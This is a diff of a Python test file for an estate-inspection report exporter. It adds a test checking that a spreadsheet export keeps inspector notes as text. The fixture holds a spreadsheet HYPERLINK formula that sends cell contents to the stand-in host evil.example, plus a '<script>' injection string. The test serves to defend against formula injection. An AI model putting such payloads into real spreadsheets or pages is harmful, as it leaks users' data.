@@ -52,10 +52,13 @@ def edit(store, estate, at, **properties):
                        reason="月调度核实", at=at)
 
 
-def inspection(estate, at, verdict, checklist=None, problems=0):
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+
+def inspection(estate, at, verdict, checklist=None, problems=0, notes="<script>x</script>"):
     return {"properties": {"estate_id": estate.id, "estate_code": estate.properties["code"], "inspector": "insp_zhao",
                            "inspected_at": at, "verdict": verdict, "checklist": json.dumps(checklist or {}),
-                           "problems": problems, "notes": "<script>x</script>"},
+                           "problems": problems, "notes": notes},
             "geometry": mapping(Point(estate.geometry.centroid.x, estate.geometry.centroid.y))}
 
 
@@ -72,7 +75,7 @@ def build_scenario(store):
     with store.transaction() as w:
         w.insert("inspections", [
             inspection(e1, "2021-07-10T01:00:00Z", "pass"),
-            inspection(e1, "2021-07-20T01:00:00Z", "issues", problems=2),
+            inspection(e1, "2021-07-20T01:00:00Z", "issues", problems=2, notes=FORMULA_NOTE),
             inspection(e2, "2021-06-15T01:00:00Z", "fail", problems=1),
             inspection(e2, "2021-08-02T01:00:00Z", "pass"),
             inspection(e3, "2021-07-31T15:30:00Z", "pass", checklist={"roads": "problem", "pipes": "done"}),
@@ -132,6 +135,9 @@ def test_excel_and_pdf_open_and_carry_the_figures(scenario):
     book = openpyxl.load_workbook(io.BytesIO(report_workbook(report, TEXTS, {"issues": "发现问题"})))
     cells = [c.value for row in book.active.iter_rows() for c in row if c.value is not None]
     assert f"«title» · {OFFICE} · 2021-07" in cells
+    # An inspector's note that looks like a formula is kept as text, never evaluated in Excel.
+    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]
+    assert "'" + FORMULA_NOTE in cells
     row = next(r for r in book.active.iter_rows(values_only=True) if r[0] == s["e1"].properties["code"]
                and r[2] == 20)
     assert row[2:5] == (20, 50, 30)
